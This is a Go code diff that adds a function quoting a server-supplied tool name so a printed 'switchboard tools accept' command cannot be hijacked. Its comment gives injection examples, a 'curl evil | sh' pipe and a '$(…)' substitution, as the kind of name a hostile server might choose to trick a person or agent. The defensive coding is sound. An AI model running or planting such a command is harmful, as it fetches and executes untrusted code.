@@ -45,7 +45,21 @@ func (e *HeldToolError) Hint() string {
 	if e.Store {
 		return "no `switchboard tools accept` helps until the tool pin store is fixed, as the reason says; then its tools are served again (or held if they changed)"
 	}
-	return fmt.Sprintf("see the change with `switchboard tools diff %s`; accept it with `switchboard tools accept %s %s`", e.Server, e.Server, e.Tool)
+	return fmt.Sprintf("see the change with `switchboard tools diff %s`; accept it with `%s`", e.Server, AcceptCommand(e.Server, e.Tool))
+}
+
+// AcceptCommand is the command line that accepts server's changed tool:
+// `switchboard tools accept SERVER TOOL`, the tool's name — the server's
+// own words — as one shell word (trust.Quote), after `--` when it starts
+// with a dash, so that a person (or an agent) who runs the line as shown
+// runs that command and nothing else, whatever the server named its tool
+// (`x; curl evil | sh`, `$(…)`).
+func AcceptCommand(server, tool string) string {
+	word := trust.Quote(tool)
+	if strings.HasPrefix(tool, "-") {
+		word = "-- " + word
+	}
+	return "switchboard tools accept " + server + " " + word
 }
 
 // Kinds and states of a ToolChange.
